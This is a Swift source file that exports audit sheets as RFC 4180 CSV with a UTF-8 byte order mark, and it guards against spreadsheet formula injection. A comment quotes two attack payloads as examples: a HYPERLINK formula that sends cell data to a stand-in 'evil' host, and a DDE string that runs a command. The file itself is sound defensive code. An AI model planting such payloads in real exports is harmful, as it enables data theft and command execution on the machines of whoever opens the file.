import Foundation

/// CSV for one sheet, the way Excel and LibreOffice read it without an import dialog.
///
/// - RFC 4180: fields separated by commas, records ended by CRLF; a field containing a comma, a double quote,
///   CR or LF is enclosed in double quotes, and a double quote inside it is doubled.
/// - UTF-8 with a byte order mark: Excel opens a BOM-less CSV in the system code page (Shift_JIS on Japanese
///   Windows), which garbles every Japanese header and finding. With the BOM it reads UTF-8.
/// - Numbers are written as plain numbers, dates as `YYYY-MM-DD` (which spreadsheets read as dates).
///
/// One sheet per file: a document with several sheets (results, SPRS) is written as one CSV per sheet; the
/// command line writes the first sheet unless asked for another.
public enum CSVExport {
    /// The UTF-8 byte order mark.
    public static let byteOrderMark: [UInt8] = [0xEF, 0xBB, 0xBF]

    public static func data(_ sheet: Sheet) -> Data {
        var out = "\(sheet.columns.map { field(.text($0)) }.joined(separator: ","))\r\n"
        for row in sheet.rows {
            out += row.map(field).joined(separator: ",")
            out += "\r\n"
        }
        return Data(byteOrderMark) + Data(out.utf8)
    }

    /// One field, neutralised and quoted as needed.
    static func field(_ cell: Cell) -> String {
        var text = cell.plainText
        // CSV formula injection (CWE-1236, OWASP "CSV Injection"): Excel, LibreOffice and Google Sheets run a
        // text field that starts with = + - @ as a formula, and a leading TAB or CR can hide such a start from a
        // naive check while the spreadsheet still strips it. Findings, rationales, owners and evidence paths are
        // free text typed by users or imported from files, so a value like `=HYPERLINK("http://evil/?"&A1)` or
        // `=cmd|' /C calc'!A0` would execute when an auditor opens the export. A leading apostrophe makes the
        // spreadsheet show the value as text (Excel hides the apostrophe); the content is otherwise unchanged.
        // Only text cells get this: our own numbers (a negative SPRS score, say) and dates stay numbers.
        if case .text = cell, let first = text.unicodeScalars.first, formulaTriggers.contains(first) {
            text = "'" + text
        }
        guard text.contains(where: { $0 == "," || $0 == "\"" || $0 == "\r" || $0 == "\n" || $0 == "\r\n" }) else {
            return text
        }
        return "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    static let formulaTriggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]
}
